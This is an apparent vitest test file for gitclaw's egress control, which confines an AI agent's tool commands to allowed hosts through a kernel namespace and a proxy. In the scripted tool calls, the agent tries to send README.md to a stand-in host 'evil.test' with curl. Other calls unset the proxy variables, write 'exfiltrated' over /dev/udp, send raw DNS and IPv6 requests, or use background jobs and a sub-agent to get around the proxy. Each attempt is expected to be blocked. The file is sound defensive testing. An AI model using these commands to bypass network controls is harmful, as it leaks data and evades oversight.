// Egress control (#30): tool commands reach only the hosts the repository allows, enforced by the
// kernel (a network namespace of the run's own whose one way out is gitclaw's proxy), through the
// real stages as separate processes. Everything stays on loopback: names are mapped to 127.0.0.x
// by a hosts file the proxy reads (GITCLAW_EGRESS_HOSTS), and servers listen in the test's own
// network namespace, where the tool commands must not reach them except through the proxy.
import { createSocket, type Socket as UdpSocket } from "node:dgram";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { EgressError, prepareConfinedSandbox } from "../../src/egress/egress.ts";
import { toolResultTexts, type RecordedModelRequest } from "../support/fake-model.ts";
import { issueOpenedPayload } from "../support/payloads.ts";
import { checkoutWithConfig, createWorld, OWNER, REPO, type World } from "../e2e/support.ts";
import { hostedRunner, toolResults, type HostedRunner } from "./support.ts";

interface Recorder {
  port: number;
  seen: string[];
  stop(): void;
}

/** An HTTP server on `hostname` that answers every request and records its path. */
function httpServer(hostname: string, name: string): Recorder {
  const seen: string[] = [];
  const server = Bun.serve({
    hostname,
    port: 0,
    fetch: (request) => {
      seen.push(new URL(request.url).pathname);
      return new Response(`hello from ${name}\n`);
    },
  });
  return { port: server.port!, seen, stop: () => void server.stop(true) };
}

/** A UDP socket on 127.0.0.3 that records every datagram (a DNS server, to a tool that found it). */
async function udpServer(): Promise<Recorder> {
  const seen: string[] = [];
  const socket: UdpSocket = createSocket("udp4");
  socket.on("message", (message) => seen.push(message.toString("hex")));
  await new Promise<void>((done) => socket.bind(0, "127.0.0.3", done));
  return { port: socket.address().port, seen, stop: () => socket.close() };
}

let world: World;
let allowed: Recorder;
let evil: Recorder;
let ipv6: Recorder;
let udp: Recorder;
let dir: string;
let env: Record<string, string>;
const runners: HostedRunner[] = [];

beforeAll(async () => {
  world = await createWorld();
  world.gh.addUser({ login: "alice", permission: "write" });
  allowed = httpServer("127.0.0.2", "allowed.test");
  evil = httpServer("127.0.0.3", "evil.test");
  ipv6 = httpServer("::1", "ipv6");
  udp = await udpServer();
  dir = mkdtempSync(join(tmpdir(), "gitclaw-egress-test-"));
  writeFileSync(join(dir, "hosts"), "127.0.0.2 allowed.test\n127.0.0.3 evil.test\n");
  env = { GITCLAW_EGRESS_HOSTS: join(dir, "hosts") };
});
afterAll(async () => {
  for (const server of [allowed, evil, ipv6, udp]) server?.stop();
  for (const runner of runners) runner.cleanup();
  rmSync(dir, { recursive: true, force: true });
  await world.stop();
});

const bash = (command: string, extra: object = {}) => ({ name: "bash", input: { command, ...extra } });
const call = (name: string, input: unknown) => ({ name, input });

/** One issue answered on a hosted-like runner with `config`; returns the run, its tool results and the reply. */
async function converse(config: object, turns: Parameters<World["model"]["script"]>[0]) {
  await checkoutWithConfig(world, config);
  const runner = await hostedRunner(world);
  runners.push(runner);
  const issue = world.gh.createIssue({ title: "Fetch things", body: "Please fetch.", user: "alice" });
  const before = world.model.requests.length;
  world.model.script(turns);
  const run = await world.run("issues", issueOpenedPayload({ owner: OWNER, repo: REPO, issue }), {
    ...runner.context,
    env: { ...runner.context.env, ...env },
  });
  const reply = world.gh.comments(issue.number).at(-1)?.body ?? "";
  return { run, reply, modelCalls: world.model.requests.length - before, results: () => toolResults(world) };
}

// A DNS query for evil.test (id 0x1234, one question, type A), as bytes for bash's /dev/udp.
const DNS_QUERY =
  "\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04evil\\x04test\\x00\\x00\\x01\\x00\\x01";

describe('a restrictive policy ("allow": ["allowed.test"])', () => {
  let results: string[];
  let reply: string;
  let summary: string;
  beforeAll(async () => {
    const p = { ok: allowed.port, evil: evil.port, v6: ipv6.port, udp: udp.port };
    const tries = [
      `curl -sS http://allowed.test:${p.ok}/through-proxy`,
      `curl -sS -d @README.md http://evil.test:${p.evil}/by-name`,
      `curl -sS http://127.0.0.3:${p.evil}/ip-through-proxy`,
      `curl -sS --max-time 5 --noproxy '*' http://127.0.0.3:${p.evil}/raw-ip; echo "exit $?"`,
      `unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy; env | grep -Eic '^(https?|all)_proxy='; curl -sS --max-time 5 --resolve evil.test:${p.evil}:127.0.0.3 http://evil.test:${p.evil}/unset; echo "exit $?"`,
      `printf 'exfiltrated' > /dev/udp/127.0.0.3/${p.udp}; echo "exit $?"`,
      `printf '${DNS_QUERY}' > /dev/udp/127.0.0.3/${p.udp}; printf '${DNS_QUERY}' > /dev/udp/127.0.0.3/53; echo "exit $?"; getent hosts evil.test; echo "getent $?"`,
      `curl -sS --max-time 5 --noproxy '*' -g 'http://[::1]:${p.v6}/raw-ipv6'; echo "exit $?"`,
      `curl -sS --noproxy '' -g 'http://[::1]:${p.v6}/ipv6-through-proxy'`,
    ];
    const background = `out=$(curl -sS http://evil.test:${p.evil}/job; curl -sS --max-time 5 --noproxy '*' http://127.0.0.3:${p.evil}/job-raw; echo "exit $?"); echo "$out"`;
    const conversation = await converse({ network: { allow: ["allowed.test"] } }, [
      { toolCalls: tries.map((command) => bash(command)) },
      { toolCalls: [bash(background, { async: true })] },
      { toolCalls: [call("job", { poll: "job-1", wait: 30 })] },
      { text: "Done." },
    ]);
    expect(conversation.run.stages.agent?.exitCode, conversation.run.logs).toBe(0);
    results = conversation.results();
    reply = conversation.reply;
    summary = conversation.run.summary;
  });

  it("lets an allowed host answer a tool command, through the proxy", () => {
    expect(results[0]).toContain("hello from allowed.test");
    expect(allowed.seen).toContain("/through-proxy");
  });

  it("refuses a host by name, and by address, saying which config line would allow it", () => {
    expect(results[1]).toContain("evil.test is not an allowed host");
    expect(results[1]).toContain('"network": {"allow":["allowed.test","evil.test"]}');
    expect(results[2]).toContain("127.0.0.3 is not an allowed host");
  });

  it("reaches nothing around the proxy: a raw IP, unset proxy variables, UDP, DNS, IPv6", () => {
    expect(results[3]).toMatch(/exit [1-9]/);
    expect(results[4]).toMatch(/^0\n/); // the variables are gone, and still nothing goes out
    expect(results[4]).toMatch(/exit [1-9]/);
    // The datagrams stay in the namespace (127.0.0.3 there is its own loopback): the server gets none.
    expect(results[5]).toMatch(/exit \d/);
    expect(results[6]).toMatch(/getent [1-9]/);
    expect(results[7]).toMatch(/exit [1-9]/);
    expect(results[8]).toContain("::1 is not an allowed host");
    expect(evil.seen).toEqual([]);
    expect(ipv6.seen).toEqual([]);
    expect(udp.seen).toEqual([]);
  });

  it("holds a background job to the same policy", () => {
    expect(results[10]).toContain("evil.test is not an allowed host");
    expect(results[10]).toMatch(/exit [1-9]/);
    expect(evil.seen).toEqual([]);
  });

  it("lists the blocked hosts in the reply: those the proxy refused by name, those the kernel refused by address or DNS name", () => {
    expect(reply).toMatch(/🛡️ Network: \d+ blocked attempts to 3 hosts not allowed \(evil\.test, 127\.0\.0\.3, ::1\)/);
    // By name twice (the command and the background job), and as DNS queries: the one to port 53, and
    // those of the system's resolver (getent), as many as it sends.
    const named =
      /- `evil\.test`: (\d+) attempts \(around the proxy: dns\); to allow it: `"network": \{"allow":\["allowed\.test","evil\.test"\]\}`/.exec(
        reply,
      );
    expect(Number(named?.[1])).toBeGreaterThanOrEqual(3);
    // Through the proxy once; around it: the raw address, with the variables unset, UDP twice, the job.
    expect(reply).toContain(
      `- \`127.0.0.3\`: 6 attempts (around the proxy: tcp/${evil.port}, udp/${udp.port}); to allow it: \`"network": {"allow":["allowed.test","127.0.0.3"]}\``,
    );
    expect(reply).toContain("- `::1`: 1 attempt; to allow it:");
  });

  it("shows the policy, the blocked hosts and the allowed hosts used in the job summary", () => {
    expect(summary).toContain("### Network\n\nPolicy: allow `allowed.test`.");
    expect(summary).toMatch(
      /\| blocked host \| attempts \|\n\|---\|---\|\n\| `evil\.test` \| \d+ \|\n\| `127\.0\.0\.3` \| 6 \|\n\| `::1` \| 1 \|/,
    );
    expect(summary).toContain("| allowed host used | connections |\n|---|---|\n| `allowed.test` | 1 |");
  });
});

describe("a sub-agent", () => {
  it("is under the parent's policy", async () => {
    const child = `curl -sS http://evil.test:${evil.port}/child; curl -sS --max-time 5 --noproxy '*' http://127.0.0.3:${evil.port}/child-raw; echo "exit $?"`;
    world.model.scriptFor("Fetch from evil.test", [
      { toolCalls: [bash(child)] },
      { toolCalls: [call("agent_report", { reportMarkdown: "Could not fetch.", title: "Fetch" })] },
    ]);
    let childResult = "";
    const conversation = await converse({ network: { allow: ["allowed.test"] }, tasks: { enabled: true } }, [
      { toolCalls: [call("task", { title: "Fetch", prompt: "Fetch from evil.test and report." })] },
      (request: RecordedModelRequest) => {
        childResult = toolResultTexts(request.body).join("\n");
        return { text: "The task could not fetch." };
      },
    ]);
    expect(conversation.run.stages.agent?.exitCode, conversation.run.logs).toBe(0);
    const childTurns = world.model.requests.filter((r) => JSON.stringify(r.body).includes("Fetch from evil.test"));
    const childSaw = childTurns.flatMap((r) => toolResultTexts(r.body)).join("\n");
    expect(childSaw).toContain("evil.test is not an allowed host");
    expect(childSaw).toMatch(/exit [1-9]/);
    expect(childResult).toContain("Could not fetch.");
    expect(evil.seen).toEqual([]);
    expect(conversation.reply).toContain("`evil.test`: 1 attempt");
  });
});

describe('"network": "open"', () => {
  it("restores unrestricted access: no proxy, the raw address answers", async () => {
    const conversation = await converse({ network: "open" }, [
      { toolCalls: [bash(`echo "proxy=\${HTTP_PROXY:-none}"; curl -sS http://127.0.0.3:${evil.port}/open`)] },
      { text: "Done." },
    ]);
    expect(conversation.run.stages.agent?.exitCode, conversation.run.logs).toBe(0);
    const [result] = conversation.results();
    expect(result).toContain("proxy=none");
    expect(result).toContain("hello from evil.test");
    expect(evil.seen).toEqual(["/open"]);
    expect(conversation.reply).not.toContain("Network:");
    evil.seen.length = 0;
  });
});

describe("where the policy cannot be enforced", () => {
  it('refuses the default policy before calling the model, saying why and how ("network": "open")', async () => {
    const conversation = await converse({ sandbox: "off" }, [{ text: "never asked" }]);
    expect(conversation.run.stages.agent?.exitCode).not.toBe(0);
    expect(conversation.modelCalls).toBe(0);
    expect(conversation.run.logs).toContain("gitclaw cannot limit tool commands to the allowed hosts here");
    expect(conversation.reply).toContain('the configuration sets "sandbox" to "off"');
    expect(conversation.reply).toContain('"network": "open"');
  });

  it("refuses where the kernel gives no network namespace (the probe stands in such a machine)", async () => {
    const runner = await hostedRunner(world);
    runners.push(runner);
    const refused = prepareConfinedSandbox(
      {
        mode: "auto",
        workspace: runner.workspace,
        agentOnly: [".git", "state"],
        secretDirs: [runner.runnerTemp, runner.home],
        path: process.env.PATH ?? "",
      },
      {
        config: { allow: ["npm"] },
        openNetwork: async () => "a network namespace cannot be made here (unshare: Operation not permitted)",
      },
    );
    await expect(refused).rejects.toThrow(EgressError);
    await expect(refused).rejects.toThrow(
      /cannot limit tool commands to the allowed hosts here \(the network policy of \.github\/gitclaw\.json\): a network namespace cannot be made here \(unshare: Operation not permitted\)\. .*"network": "open"/,
    );
  });
});
